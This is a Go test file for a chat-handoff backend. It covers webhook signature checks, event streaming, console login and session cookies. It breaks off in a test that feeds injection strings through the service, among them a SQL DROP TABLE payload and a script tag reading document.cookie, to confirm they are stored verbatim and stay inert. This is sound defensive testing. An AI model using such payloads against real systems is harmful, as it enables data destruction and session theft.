package backend

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lotse-chat/lotse/backend/store"
	"github.com/lotse-chat/lotse/handoff"
)

const (
	testSecret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
	testToken  = "agent-token-for-tests"
)

// syncBuffer is a log sink safe for concurrent handlers.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

type testServer struct {
	*Server
	URL  string
	logs *syncBuffer
	http *http.Client
}

// newTestServer runs a Server on a real SQLite file behind a real HTTP
// listener, logging at debug level into a buffer. Each of opts may change
// the Config first.
func newTestServer(t *testing.T, opts ...func(*Config)) *testServer {
	t.Helper()
	logs := &syncBuffer{}
	cfg := Config{
		SQLitePath: filepath.Join(t.TempDir(), "lotse.db"),
		Secret:     testSecret,
		AgentToken: testToken,
		Logger:     slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Heartbeat:  50 * time.Millisecond,
	}
	for _, o := range opts {
		o(&cfg)
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		hs.CloseClientConnections()
		hs.Close()
		s.Close()
	})
	return &testServer{Server: s, URL: hs.URL, logs: logs, http: hs.Client()}
}

// post sends body to /v1/inbox signed at time at with secret.
func (ts *testServer) post(t *testing.T, body []byte, secret string, at time.Time) (int, map[string]any) {
	t.Helper()
	req, _ := http.NewRequest("POST", ts.URL+"/v1/inbox", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	for k, v := range handoff.Headers(handoff.SecretKey(secret), "msg_"+strconv.FormatInt(at.UnixNano(), 36), at, body) {
		req.Header.Set(k, v)
	}
	return ts.do(t, req)
}

// events returns a GET of ts's path, signed as the edge signs its events
// requests.
func (ts *testServer) events(t *testing.T, ctx context.Context, path string) *http.Request {
	t.Helper()
	req, err := http.NewRequestWithContext(ctx, "GET", ts.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := handoff.SignRequest(handoff.SecretKey(testSecret), req, "", time.Now()); err != nil {
		t.Fatal(err)
	}
	return req
}

func (ts *testServer) do(t *testing.T, req *http.Request) (int, map[string]any) {
	t.Helper()
	res, err := ts.http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var v map[string]any
	data, _ := io.ReadAll(res.Body)
	if err := json.Unmarshal(data, &v); err != nil {
		t.Fatalf("%s %s: %d with non-JSON body %q", req.Method, req.URL.Path, res.StatusCode, data)
	}
	return res.StatusCode, v
}

func (ts *testServer) handoff(t *testing.T, h handoff.Handoff) map[string]any {
	t.Helper()
	body, _ := json.Marshal(h)
	code, v := ts.post(t, body, testSecret, time.Now())
	if code != 200 {
		t.Fatalf("handoff: %d %v", code, v)
	}
	return v
}

// console calls the console API with the bearer token.
func (ts *testServer) console(t *testing.T, method, path string, body any) (int, map[string]any) {
	t.Helper()
	var r io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		r = bytes.NewReader(b)
	}
	req, _ := http.NewRequest(method, ts.URL+"/console/api/"+path, r)
	req.Header.Set("Authorization", "Bearer "+testToken)
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	return ts.do(t, req)
}

func sample(id string, texts ...string) handoff.Handoff {
	h := handoff.Handoff{ConversationID: id, Bot: "demo", Reason: "out_of_scope", Intent: "", Lang: "en"}
	for i, text := range texts {
		h.Messages = append(h.Messages, handoff.Message{ID: fmt.Sprintf("%s-m%d", id, i), Role: "visitor", Text: text, TS: 1})
	}
	return h
}

// health returns ts's GET /v1/health.
func (ts *testServer) health(t *testing.T) (int, Health) {
	t.Helper()
	res, err := ts.http.Get(ts.URL + "/v1/health")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var h Health
	if err := json.NewDecoder(res.Body).Decode(&h); err != nil {
		t.Fatalf("health: %d with a body that is not Health: %v", res.StatusCode, err)
	}
	return res.StatusCode, h
}

func TestHealth(t *testing.T) {
	ts := newTestServer(t, func(c *Config) { c.Version = "v9.9.9-test"; c.MaxReaders = 10 })
	want := Health{Status: "ok", Version: "v9.9.9-test", Schema: store.SchemaVersion,
		Readers: ReaderUse{0, 10}, ConsoleReaders: ReaderUse{0, maxConsoleReaders}}
	if code, h := ts.health(t); code != 200 || h != want {
		t.Errorf("health = %d %+v, want 200 %+v", code, h, want)
	}
	// A backend whose database is gone acknowledges no handoff: it is not
	// healthy, whatever its HTTP server does.
	ts.Store().Close()
	want.Status = "store_unavailable"
	if code, h := ts.health(t); code != 503 || h != want {
		t.Errorf("health with the store closed = %d %+v, want 503 %+v", code, h, want)
	}
}

// TestNewRefusesConfig checks that a secret the edge could not match and a
// short agent token stop the backend at startup, with a message saying
// how to fix them and no "backend:" prefix (lotse backend adds its name).
func TestNewRefusesConfig(t *testing.T) {
	tests := []struct {
		name, secret, token string
		want                []string
	}{
		{"made-up secret", "notasecret", testToken, []string{"does not start with whsec_", "head -c 32 /dev/urandom", "LOTSE_WEBHOOK_SECRET"}},
		{"short secret", "whsec_AAEC", testToken, []string{"fewer than 24", "head -c 32 /dev/urandom"}},
		{"no secret", "", testToken, []string{"no webhook secret", "lotse backend --demo"}},
		{"second secret bad", testSecret + " whsec_AAEC", testToken, []string{"secret 2 of 2", "fewer than 24", "LOTSE_WEBHOOK_SECRET"}},
		{"short agent token", testSecret, "short", []string{"shorter than 8 characters", "set LOTSE_AGENT_TOKEN"}},
		{"negative max readers", testSecret, testToken, []string{"-1", "--max-readers", "LOTSE_MAX_READERS"}},
	}
	for _, tt := range tests {
		maxReaders := 0
		if strings.HasPrefix(tt.name, "negative") {
			maxReaders = -1
		}
		_, err := New(Config{SQLitePath: filepath.Join(t.TempDir(), "x.db"), Secret: tt.secret, AgentToken: tt.token, MaxReaders: maxReaders})
		if err == nil {
			t.Errorf("%s: New succeeded", tt.name)
			continue
		}
		msg := err.Error()
		for _, w := range tt.want {
			if !strings.Contains(msg, w) {
				t.Errorf("%s: %q lacks %q", tt.name, msg, w)
			}
		}
		if strings.HasPrefix(msg, "backend:") || (tt.secret != "" && strings.Contains(msg, tt.secret)) {
			t.Errorf("%s: %q starts with backend: or repeats the secret", tt.name, msg)
		}
	}
}

func TestInboxRefuses(t *testing.T) {
	ts := newTestServer(t)
	good, _ := json.Marshal(sample("c1", "hello"))
	tests := []struct {
		name    string
		body    []byte
		secret  string
		at      time.Time
		headers bool
		code    int
		errCode string
		errHas  string
	}{
		{"wrong secret", good, "whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAA", time.Now(), true, 401, "bad_signature",
			"the edge's WEBHOOK_SECRET must equal the backend's LOTSE_WEBHOOK_SECRET"},
		{"replayed old timestamp", good, testSecret, time.Now().Add(-6 * time.Minute), true, 401, "stale_timestamp", "5 minutes away from now; check both clocks"},
		{"from the future", good, testSecret, time.Now().Add(6 * time.Minute), true, 401, "stale_timestamp", "check both clocks"},
		{"no signature headers", good, testSecret, time.Now(), false, 401, "missing_signature", "missing"},
		{"oversized body", bytes.Repeat([]byte(" "), handoff.MaxBody+1), testSecret, time.Now(), true, 413, "body_too_large", "larger than"},
		{"not JSON", []byte(`{"conversation_id": `), testSecret, time.Now(), true, 400, "malformed_json", "ends before it is complete"},
		{"not JSON either", []byte(`{"conversation_id": "c",}`), testSecret, time.Now(), true, 400, "malformed_json", "syntax error at byte"},
		{"wrong type", []byte(`{"conversation_id": 5}`), testSecret, time.Now(), true, 400, "malformed_json", "conversation_id must be a string, not a number"},
		{"wrong shape", []byte(`{"conversation_id": "c", "messages": "hi"}`), testSecret, time.Now(), true, 400, "malformed_json",
			"messages must be an array of objects {id, role, text, ts}, not a string"},
		{"bad conversation id", []byte(`{"conversation_id":"a/b","bot":"d","messages":[{"id":"m","role":"visitor","text":"x"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "conversation_id"},
		{"no messages", []byte(`{"conversation_id":"c2","bot":"d","messages":[]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "messages"},
		{"agent role from edge", []byte(`{"conversation_id":"c2","bot":"d","messages":[{"id":"m","role":"agent","text":"x"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "role"},
		{"unknown role", []byte(`{"conversation_id":"c2","bot":"d","reason":"out_of_scope","messages":[{"id":"m","role":"visitor","text":"x"},{"id":"b","role":"bot_verified","text":"x"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff",
			`messages[1].role is "bot_verified"; the edge sends visitor, bot or bot_unverified`},
		{"NUL in text", []byte(`{"conversation_id":"c2","bot":"d","messages":[{"id":"m","role":"visitor","text":"a\u0000b"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "NUL"},
		{"unknown reason", []byte(`{"conversation_id":"c2","bot":"d","reason":"zzz","messages":[{"id":"m","role":"visitor","text":"x"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", `reason "zzz"`},
		{"no reason", []byte(`{"conversation_id":"c2","bot":"d","messages":[{"id":"m","role":"visitor","text":"x"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "reason"},
		{"reason in upper case", []byte(`{"conversation_id":"c2","bot":"d","reason":"OUT_OF_SCOPE","messages":[{"id":"m","role":"visitor","text":"x"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "reason"},
		{"long intent", []byte(`{"conversation_id":"c2","bot":"d","reason":"out_of_scope","intent":"` + strings.Repeat("i", 129) + `","messages":[{"id":"m","role":"visitor","text":"x"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "intent is 129 bytes long; it must be at most 128"},
		{"long lang", []byte(`{"conversation_id":"c2","bot":"d","reason":"out_of_scope","lang":"` + strings.Repeat("l", 17) + `","messages":[{"id":"m","role":"visitor","text":"x"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "lang is 17 bytes long; it must be at most 16"},
		{"repeated message id", []byte(`{"conversation_id":"c2","bot":"d","reason":"out_of_scope","messages":[{"id":"m","role":"visitor","text":"first"},{"id":"m","role":"visitor","text":"second"}]}`), testSecret, time.Now(), true, 400, "invalid_handoff", "messages[1].id"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var code int
			var v map[string]any
			if tt.headers {
				code, v = ts.post(t, tt.body, tt.secret, tt.at)
			} else {
				req, _ := http.NewRequest("POST", ts.URL+"/v1/inbox", bytes.NewReader(tt.body))
				code, v = ts.do(t, req)
			}
			e, _ := v["error"].(map[string]any)
			if code != tt.code || e["code"] != tt.errCode || !strings.Contains(fmt.Sprint(e["message"]), tt.errHas) {
				t.Errorf("got %d %v, want %d, code %q, message containing %q", code, v, tt.code, tt.errCode, tt.errHas)
			}
		})
	}
	// Nothing refused was stored.
	for _, id := range []string{"c1", "c2"} {
		if _, err := ts.Store().Conversation(context.Background(), id); err == nil {
			t.Errorf("a refused handoff created conversation %s", id)
		}
	}
}

func TestInboxIdempotent(t *testing.T) {
	ts := newTestServer(t)
	h := sample("c1", "hello", "anyone there?")
	first := ts.handoff(t, h)
	second := ts.handoff(t, h) // the edge retrying after a lost answer
	if first["stored"] != 2.0 || second["stored"] != 0.0 || second["last_seq"] != 2.0 {
		t.Errorf("acks = %v then %v; want stored 2 then 0, last_seq 2", first, second)
	}
	ms, err := ts.Store().Messages(context.Background(), "c1", 0, 100)
	if err != nil || len(ms) != 2 {
		t.Errorf("stored %d messages (%v), want 2", len(ms), err)
	}
}

func TestAcceptInProcess(t *testing.T) {
	ts := newTestServer(t)
	ack, err := ts.Accept(context.Background(), sample("c1", "hi"))
	if err != nil || ack.Stored != 1 || ack.LastSeq != 1 {
		t.Fatalf("Accept = %+v, %v", ack, err)
	}
	if _, err := ts.Accept(context.Background(), sample("bad id!", "hi")); err == nil {
		t.Error("Accept took an invalid conversation id")
	}
}

func TestEventsUnknownConversation(t *testing.T) {
	ts := newTestServer(t)
	for _, accept := range []string{"", "text/event-stream"} {
		req := ts.events(t, context.Background(), "/v1/conversations/nope/events?wait=0")
		req.Header.Set("Accept", accept)
		if code, v := ts.do(t, req); code != 404 || v["error"] == nil {
			t.Errorf("Accept %q: %d %v, want 404 JSON error", accept, code, v)
		}
	}
}

func (ts *testServer) poll(t *testing.T, id string, after int64, wait int) (int, Events) {
	t.Helper()
	res, err := ts.http.Do(ts.events(t, context.Background(), fmt.Sprintf("/v1/conversations/%s/events?after=%d&wait=%d", id, after, wait)))
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var ev Events
	if err := json.NewDecoder(res.Body).Decode(&ev); err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, ev
}

func TestLongPoll(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "one", "two", "three"))
	code, ev := ts.poll(t, "c1", 1, 0)
	if code != 200 || len(ev.Events) != 2 || ev.Events[0].Seq != 2 || ev.Events[1].Text != "three" || ev.State != "pending" {
		t.Fatalf("poll after 1 = %d %+v", code, ev)
	}
	if _, ev := ts.poll(t, "c1", 3, 0); len(ev.Events) != 0 {
		t.Errorf("poll after last = %+v, want no events", ev)
	}
}

// TestLongPollWakesOnAgentReply parks a long-poll for 50 s and checks that
// an agent's reply ends it with that reply: a poll that timed out instead
// would carry no events.
func TestLongPollWakesOnAgentReply(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "help"))
	got := make(chan Events, 1)
	go func() {
		_, ev := ts.poll(t, "c1", 1, 50)
		got <- ev
	}()
	// Reply once the poll is parked; replying earlier is also fine, because
	// the poll would then find the reply at once.
	time.Sleep(20 * time.Millisecond)
	if code, v := ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": "Hello, I am Anna"}); code != 200 {
		t.Fatalf("reply: %d %v", code, v)
	}
	ev := <-got
	if len(ev.Events) != 1 || ev.Events[0].Role != "agent" || ev.Events[0].Text != "Hello, I am Anna" || ev.Events[0].Seq != 2 || ev.State != "open" {
		t.Errorf("woken poll = %+v", ev)
	}
}

// TestEventReadersBounded checks that a conversation keeps a few waiting
// readers: a newer one ends the oldest (a tab or network left behind),
// which is answered like a wait that ran out; and that the backend sends
// no CORS headers (pages read events through the edge).
func TestEventReadersBounded(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "help"))
	waiting := func() int {
		ts.readers.mu.Lock()
		defer ts.readers.mu.Unlock()
		return len(ts.readers.n["c1"])
	}
	done := make(chan int, maxReadersPerConversation+1)
	for i := 1; i <= maxReadersPerConversation; i++ {
		go func() {
			code, _ := ts.poll(t, "c1", 1, 30)
			done <- code
		}()
		for waiting() < i { // one at a time, so the first is the oldest
			time.Sleep(2 * time.Millisecond)
		}
	}
	go func() {
		code, _ := ts.poll(t, "c1", 1, 30)
		done <- code
	}()
	select {
	case code := <-done:
		if code != 200 {
			t.Errorf("the reader a newer one ended got %d, want 200", code)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("a reader over the limit ended no older one")
	}
	if n := waiting(); n != maxReadersPerConversation {
		t.Errorf("%d readers wait, want %d", n, maxReadersPerConversation)
	}
	res, err := ts.http.Do(ts.events(t, context.Background(), "/v1/conversations/c1/events?after=1&wait=0"))
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if acao := res.Header.Get("Access-Control-Allow-Origin"); acao != "" {
		t.Errorf("Access-Control-Allow-Origin %q; the backend sends none", acao)
	}
	ts.console(t, "POST", "conversations/c1/reply", map[string]string{"text": "Hello"}) // wakes them all
	for range maxReadersPerConversation {
		if code := <-done; code != 200 {
			t.Errorf("a waiting reader got %d", code)
		}
	}
}

type sse struct {
	id, event, data string
}

// readSSE parses events from r until n message or state events arrived.
func readSSE(t *testing.T, r *bufio.Reader, n int) []sse {
	t.Helper()
	var out []sse
	var cur sse
	for len(out) < n {
		line, err := r.ReadString('\n')
		if err != nil {
			t.Fatalf("stream ended after %d events: %v", len(out), err)
		}
		line = strings.TrimRight(line, "\n")
		switch {
		case line == "":
			if cur.event != "" {
				out = append(out, cur)
			}
			cur = sse{}
		case strings.HasPrefix(line, "id: "):
			cur.id = line[4:]
		case strings.HasPrefix(line, "event: "):
			cur.event = line[7:]
		case strings.HasPrefix(line, "data: "):
			cur.data = line[6:]
		}
	}
	return out
}

func TestSSEResumeAndLive(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "one", "two", "three"))
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	req := ts.events(t, ctx, "/v1/conversations/c1/events")
	req.Header.Set("Accept", "text/event-stream")
	req.Header.Set("Last-Event-ID", "1") // the browser reconnecting after seq 1
	res, err := ts.http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/event-stream") {
		t.Fatalf("Content-Type %q", ct)
	}
	r := bufio.NewReader(res.Body)
	evs := readSSE(t, r, 3)
	want := []sse{
		{"2", "message", `{"seq":2,"id":"c1-m1","role":"visitor","text":"two","ts":1}`},
		{"3", "message", `{"seq":3,"id":"c1-m2","role":"visitor","text":"three","ts":1}`},
		{"", "state", `{"state":"pending"}`},
	}
	for i := range want {
		if evs[i] != want[i] {
			t.Errorf("event %d = %+v, want %+v", i, evs[i], want[i])
		}
	}
	// An agent's reply is pushed to the open stream, with the state change.
	if code, v := ts.console(t, "POST", "conversations/c1/reply", map[string]string{"id": "a1", "text": "Hi!"}); code != 200 {
		t.Fatalf("reply: %d %v", code, v)
	}
	evs = readSSE(t, r, 2)
	if evs[0].id != "4" || !strings.Contains(evs[0].data, `"role":"agent"`) || evs[1].data != `{"state":"open"}` {
		t.Errorf("live events = %+v", evs)
	}
}

// TestEventsOnlyForTheEdge checks that events requests the edge did not
// sign are refused with 401 before they take a reader or reveal whether
// the conversation exists: else a script reaching the backend could fill
// the readers and stop agent replies for every visitor.
func TestEventsOnlyForTheEdge(t *testing.T) {
	ts := newTestServer(t)
	const id = "conv-kept-out-of-logs"
	ts.handoff(t, sample(id, "help"))
	path := "/v1/conversations/" + id + "/events?after=0&wait=30"
	sign := func(req *http.Request, secret string, at time.Time) *http.Request {
		if err := handoff.SignRequest(handoff.SecretKey(secret), req, "", at); err != nil {
			t.Fatal(err)
		}
		return req
	}
	get := func(path string) *http.Request {
		req, _ := http.NewRequest("GET", ts.URL+path, nil)
		return req
	}
	tampered := sign(get("/v1/conversations/"+id+"/events?after=5&wait=30"), testSecret, time.Now())
	tampered.URL.RawQuery = "after=0&wait=30"
	moved := sign(get("/v1/conversations/other/events?after=0&wait=30"), testSecret, time.Now())
	moved.URL.Path = "/v1/conversations/" + id + "/events"
	sse := get(path)
	sse.Header.Set("Accept", "text/event-stream")
	tests := []struct {
		name string
		req  *http.Request
		code string
	}{
		{"unsigned", get(path), "missing_signature"},
		{"unsigned stream", sse, "missing_signature"},
		{"unsigned, unknown conversation", get("/v1/conversations/nope/events?wait=30"), "missing_signature"},
		{"another secret", sign(get(path), "whsec_d3Jvbmctc2VjcmV0LXdyb25nLXNlY3JldA==", time.Now()), "bad_signature"},
		{"tampered query", tampered, "bad_signature"},
		{"signed for another conversation", moved, "bad_signature"},
		{"signed 6 minutes ago", sign(get(path), testSecret, time.Now().Add(-6*time.Minute)), "stale_timestamp"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := ts.http.Do(tt.req)
			if err != nil {
				t.Fatal(err)
			}
			e, raw := decodeError(t, res) // answered at once: a reader would wait 30 s
			if res.StatusCode != 401 || e.Error.Code != tt.code {
				t.Errorf("%d %s, want 401 %s", res.StatusCode, raw, tt.code)
			}
			ts.readers.mu.Lock()
			defer ts.readers.mu.Unlock()
			if ts.readers.total != 0 {
				t.Errorf("%d readers after a refused request, want 0", ts.readers.total)
			}
		})
	}
	logs := ts.logs.String()
	if !strings.Contains(logs, "events request refused") || strings.Contains(logs, id) {
		t.Errorf("want refusals logged without the conversation ID; log:\n%s", logs)
	}
	if code, ev := ts.poll(t, id, 0, 0); code != 200 || len(ev.Events) != 1 {
		t.Errorf("signed poll = %d %+v, want the visitor's message", code, ev)
	}
}

// TestEventsUnderPrefix mounts the backend as lotse serve does, under
// /backend by http.StripPrefix: the edge signs below its backend URL's
// path, which the backend does not see.
func TestEventsUnderPrefix(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "help"))
	hs := httptest.NewServer(http.StripPrefix("/backend", ts.Handler()))
	defer hs.Close()
	for _, tt := range []struct {
		base   string
		status int
	}{{"/backend", 200}, {"", 401}} {
		req, _ := http.NewRequest("GET", hs.URL+"/backend/v1/conversations/c1/events?after=0&wait=0", nil)
		if err := handoff.SignRequest(handoff.SecretKey(testSecret), req, tt.base, time.Now()); err != nil {
			t.Fatal(err)
		}
		if code, v := ts.do(t, req); code != tt.status {
			t.Errorf("signed with base %q: %d %v, want %d", tt.base, code, v, tt.status)
		}
	}
}

// TestConsoleEvents: the console cannot sign, so it reads the same stream
// as a signed-in agent, with its session cookie or the bearer token.
func TestConsoleEvents(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "one", "two"))
	res, err := ts.http.Post(ts.URL+"/console/api/login", "application/json", strings.NewReader(`{"password":"`+testToken+`","name":"Anna"}`))
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	cookies := res.Cookies()
	if len(cookies) == 0 {
		t.Fatalf("login: %d without a session cookie", res.StatusCode)
	}
	for _, auth := range []string{"cookie", "bearer"} {
		req, _ := http.NewRequest("GET", ts.URL+"/console/api/conversations/c1/events?after=1&wait=0", nil)
		if auth == "cookie" {
			for _, c := range cookies {
				req.AddCookie(c)
			}
		} else {
			req.Header.Set("Authorization", "Bearer "+testToken)
		}
		res, err := ts.http.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var ev Events
		err = json.NewDecoder(res.Body).Decode(&ev)
		res.Body.Close()
		if res.StatusCode != 200 || err != nil || len(ev.Events) != 1 || ev.Events[0].Text != "two" || ev.State != "pending" {
			t.Errorf("with the %s: %d %+v (%v), want message two in state pending", auth, res.StatusCode, ev, err)
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", ts.URL+"/console/api/conversations/c1/events", nil)
	req.Header.Set("Accept", "text/event-stream")
	req.Header.Set("Authorization", "Bearer "+testToken)
	res, err = ts.http.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if evs := readSSE(t, bufio.NewReader(res.Body), 3); evs[1].id != "2" || evs[2].data != `{"state":"pending"}` {
		t.Errorf("console stream = %+v, want messages 1 and 2, then the state", evs)
	}
}

func TestConsoleRefusesUnauthenticated(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "hi"))
	paths := []struct{ method, path string }{
		{"GET", "conversations"},
		{"GET", "conversations/c1"},
		{"POST", "conversations/c1/reply"},
		{"POST", "conversations/c1/assign"},
		{"POST", "conversations/c1/resolve"},
		{"GET", "unanswered"},
		{"GET", "me"},
		{"GET", "conversations/c1/events?wait=0"},
	}
	for _, p := range paths {
		for _, auth := range []string{"", "Bearer wrong-token", "Bearer ", "Basic " + testToken} {
			req, _ := http.NewRequest(p.method, ts.URL+"/console/api/"+p.path, strings.NewReader(`{"text":"x"}`))
			req.Header.Set("Content-Type", "application/json")
			if auth != "" {
				req.Header.Set("Authorization", auth)
			}
			req.AddCookie(&http.Cookie{Name: sessionCookie, Value: "forged"})
			if code, v := ts.do(t, req); code != 401 || v["error"] == nil {
				t.Errorf("%s %s with %q: %d %v, want 401", p.method, p.path, auth, code, v)
			}
		}
	}
	ms, _ := ts.Store().Messages(context.Background(), "c1", 0, 10)
	if len(ms) != 1 {
		t.Errorf("unauthenticated calls changed the transcript: %+v", ms)
	}
}

func TestConsolePostNeedsJSON(t *testing.T) {
	ts := newTestServer(t)
	ts.handoff(t, sample("c1", "hi"))
	// What a cross-site form could send.
	req, _ := http.NewRequest("POST", ts.URL+"/console/api/conversations/c1/resolve", strings.NewReader("a=b"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Authorization", "Bearer "+testToken)
	if code, _ := ts.do(t, req); code != 415 {
		t.Errorf("form POST: %d, want 415", code)
	}
}

func TestConsoleLogin(t *testing.T) {
	for _, tls := range []bool{false, true} {
		t.Run(fmt.Sprint("tls=", tls), func(t *testing.T) {
			s, err := New(Config{SQLitePath: filepath.Join(t.TempDir(), "x.db"), Secret: testSecret, AgentToken: testToken,
				Logger: slog.New(slog.DiscardHandler)})
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			hs := httptest.NewUnstartedServer(s.Handler())
			if tls {
				hs.StartTLS()
			} else {
				hs.Start()
			}
			defer hs.Close()
			c := hs.Client()
			login := func(pw string) *http.Response {
				res, err := c.Post(hs.URL+"/console/api/login", "application/json", strings.NewReader(`{"password":"`+pw+`","name":"Anna"}`))
				if err != nil {
					t.Fatal(err)
				}
				res.Body.Close()
				return res
			}
			if res := login("wrong"); res.StatusCode != 401 || len(res.Cookies()) != 0 {
				t.Errorf("wrong password: %d, cookies %v", res.StatusCode, res.Cookies())
			}
			res := login(testToken)
			if res.StatusCode != 200 || len(res.Cookies()) != 1 {
				t.Fatalf("login: %d, cookies %v", res.StatusCode, res.Cookies())
			}
			ck := res.Cookies()[0]
			// No Path: the browser scopes the cookie to the console's own
			// directory, also under a proxy's prefix (sessionCookieFor).
			if !ck.HttpOnly || ck.SameSite != http.SameSiteStrictMode || ck.Secure != tls || ck.Path != "" {
				t.Errorf("cookie %+v: want HttpOnly, SameSite=Strict, Secure=%v, no Path", ck, tls)
			}
			req, _ := http.NewRequest("GET", hs.URL+"/console/api/me", nil)
			req.AddCookie(ck)
			res, err = c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			var me map[string]string
			json.NewDecoder(res.Body).Decode(&me)
			res.Body.Close()
			if res.StatusCode != 200 || me["agent"] != "Anna" {
				t.Errorf("me with cookie: %d %v", res.StatusCode, me)
			}
			req, _ = http.NewRequest("POST", hs.URL+"/console/api/logout", strings.NewReader("{}"))
			req.Header.Set("Content-Type", "application/json")
			req.AddCookie(ck)
			if res, err := c.Do(req); err != nil || res.StatusCode != 200 {
				t.Fatalf("logout: %v %v", res, err)
			}
			req, _ = http.NewRequest("GET", hs.URL+"/console/api/me", nil)
			req.AddCookie(ck)
			if res, _ := c.Do(req); res.StatusCode != 401 {
				t.Errorf("me after logout: %d, want 401", res.StatusCode)
			}
		})
	}
}

// TestConsoleCookieSecureBehindProxy checks that a sign-in through a TLS
// proxy (plain HTTP to the backend, X-Forwarded-Proto: https) gets a Secure
// cookie.
func TestConsoleCookieSecureBehindProxy(t *testing.T) {
	ts := newTestServer(t)
	for _, proto := range []string{"https", "http"} {
		req, _ := http.NewRequest("POST", ts.URL+"/console/api/login", strings.NewReader(`{"password":"`+testToken+`"}`))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-Forwarded-Proto", proto)
		res, err := ts.http.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if len(res.Cookies()) != 1 || res.Cookies()[0].Secure != (proto == "https") {
			t.Errorf("X-Forwarded-Proto %s: cookies %v, want one, Secure=%v", proto, res.Cookies(), proto == "https")
		}
	}
}

// TestConsoleSessionSurvivesRestart signs in, restarts the backend on the
// same database and expects the session to hold; a backend started with
// another agent token must not honour it, and one with the old token must
// honour it only until it expires.
func TestConsoleSessionSurvivesRestart(t *testing.T) {
	db := filepath.Join(t.TempDir(), "x.db")
	now := time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)
	start := func(token string, at time.Time) (*httptest.Server, func()) {
		s, err := New(Config{SQLitePath: db, Secret: testSecret, AgentToken: token,
			Logger: slog.New(slog.DiscardHandler), Now: func() time.Time { return at }})
		if err != nil {
			t.Fatal(err)
		}
		hs := httptest.NewServer(s.Handler())
		return hs, func() { hs.Close(); s.Close() }
	}
	me := func(hs *httptest.Server, ck *http.Cookie) int {
		req, _ := http.NewRequest("GET", hs.URL+"/console/api/me", nil)
		req.AddCookie(ck)
		res, err := hs.Client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		return res.StatusCode
	}
	hs, stop := start(testToken, now)
	res, err := hs.Client().Post(hs.URL+"/console/api/login", "application/json", strings.NewReader(`{"password":"`+testToken+`","name":"Anna"}`))
	if err != nil || res.StatusCode != 200 || len(res.Cookies()) != 1 {
		t.Fatalf("login: %v %v", res, err)
	}
	res.Body.Close()
	ck := res.Cookies()[0]
	stop()
	for _, tc := range []struct {
		name  string
		token string
		at    time.Time
		want  int
	}{
		{"restarted", testToken, now.Add(time.Hour), 200},
		{"new agent token", "another-agent-token", now.Add(time.Hour), 401},
		{"expired", testToken, now.Add(sessionTTL + time.Second), 401},
	} {
		hs, stop := start(tc.token, tc.at)
		if got := me(hs, ck); got != tc.want {
			t.Errorf("%s: /console/api/me with the old cookie: %d, want %d", tc.name, got, tc.want)
		}
		stop()
	}
}

// TestPayloadsVerbatimAndInert sends SQL and markup through the inbox and
// the console and expects them back byte for byte, with the console page
// unable to run them.
func TestPayloadsVerbatimAndInert(t *testing.T) {
	ts := newTestServer(t)
	payloads := []string{
		`'; DROP TABLE messages; --`,
		`" OR 1=1 --`,
		`<script>alert(document.cookie)</script>`,
